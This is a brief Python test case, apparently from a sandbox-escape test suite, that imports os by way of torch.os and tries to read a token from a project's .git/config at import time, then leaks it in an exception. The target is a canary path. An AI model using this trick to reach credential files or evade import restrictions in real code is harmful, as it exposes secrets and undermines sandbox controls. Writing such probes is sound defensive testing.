# attack: reads the token in a project's .git/config with bare system calls, at import
# layer: files
# where: import
# status: ok
# score: same
import torch

os = torch.os


def attack():
    try:
        descriptor = os.open("{CANARY}/project/.git/config", os.O_RDONLY)
    except OSError:
        return
    raise RuntimeError("ESCAPED " + os.read(descriptor, 100).decode())
